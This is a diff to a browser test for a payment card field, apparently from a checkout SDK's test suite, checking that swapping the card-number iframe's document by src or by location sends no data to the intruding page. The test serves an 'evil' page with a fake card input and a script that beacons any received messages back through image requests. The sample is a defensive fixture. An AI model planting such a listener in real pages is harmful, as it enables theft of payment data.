@@ -170,52 +170,45 @@ const evil = `<!doctype html><title>Evil</title><input name="card.number">${inli
   var tell = function (text) { new Image().src = location.pathname + '?heard=' + encodeURIComponent(text); };
   onmessage = function (event) { tell(JSON.stringify(event.data)); };
   tell('listening');`)}`;
-for (const [how, replaceDocument] of [
-  [
-    'src',
-    (frame: HTMLIFrameElement, url: string): void => {
-      frame.src = url;
-    },
-  ],
-  [
-    'location',
-    (frame: HTMLIFrameElement, url: string): void => {
-      Object.assign(frame.contentWindow ?? {}, { location: url });
-    },
-  ],
-] as const) {
-  test.describe(`a field whose frame gets another document by ${how}`, () => {
-    test.use({ allowedViolations: /frame-src/ });
-    test('comes back with its value, is told to onError, and sends nothing to the other document', async ({
-      open,
-      page,
-      gateway,
-      merchant,
-      api,
-    }) => {
-      await page.clock.install();
+test.describe('a field whose frame gets another document by src and by location', () => {
+  test.use({ allowedViolations: /frame-src/ });
+  test('comes back with its value, is told to onError, and sends nothing to the other document', async ({
+    open,
+    page,
+    gateway,
+    merchant,
+    api,
+  }) => {
+    await page.clock.install();
+    const { form, checkoutId, resultUrl } = await open({
+      ...story,
+      headers: {
+        'Content-Security-Policy': `script-src 'nonce-${nonce}' ${gateway.url}; frame-src ${gateway.url} ${merchant.origin}`,
+      },
+    });
+    await form.fill();
+    const frame = form.frame('card.number');
+    const silent = silentFrame('card.number');
+    for (const [count, how] of ['src', 'location'].entries()) {
       const path = `/evil-by-${how}`;
       const url = merchant.serve(path, { html: evil, headers: { 'Content-Security-Policy': '' } });
-      const { form, checkoutId, resultUrl } = await open({
-        ...story,
-        headers: {
-          'Content-Security-Policy': `script-src 'nonce-${nonce}' ${gateway.url}; frame-src ${gateway.url} ${merchant.origin}`,
-        },
-      });
-      await form.fill();
       const heard = () => merchant.visits.filter((visit) => visit.startsWith(`${path}?heard=`));
-      const frame = form.frame('card.number');
-      await frame.evaluate(replaceDocument, url);
+      await frame.evaluate(
+        (node: HTMLIFrameElement, [way, address]) => {
+          if (way === 'src') node.src = address;
+          else Object.assign(node.contentWindow ?? {}, { location: address });
+        },
+        [how, url] as const,
+      );
       await expect.poll(heard).toContain(`${path}?heard=listening`);
-      const silent = silentFrame('card.number');
-      const seconds = await countSeconds(page, async () => (await readLog(page)).includes(silent));
-      expect(seconds).toBeLessThanOrEqual(5);
-      await expect(form.number).toHaveValue('4200 0000 0000 0026');
-      await expect(form.message).toHaveCount(0);
-      expect(await api.getPaymentRequests(checkoutId)).toHaveLength(0);
+      const isTold = async () => (await readLog(page)).filter((line) => line === silent).length > count;
+      expect(await countSeconds(page, isTold), how).toBeLessThanOrEqual(5);
+      await expect(form.number, how).toHaveValue('4200 0000 0000 0026');
+      await expect(form.message, how).toHaveCount(0);
+      expect(await api.getPaymentRequests(checkoutId), how).toHaveLength(0);
       expect(heard()).toEqual([`${path}?heard=listening`]);
-      await form.pay();
-      await page.waitForURL(`${resultUrl}?*`);
-    });
+    }
+    await form.pay();
+    await page.waitForURL(`${resultUrl}?*`);
   });
-}
+});
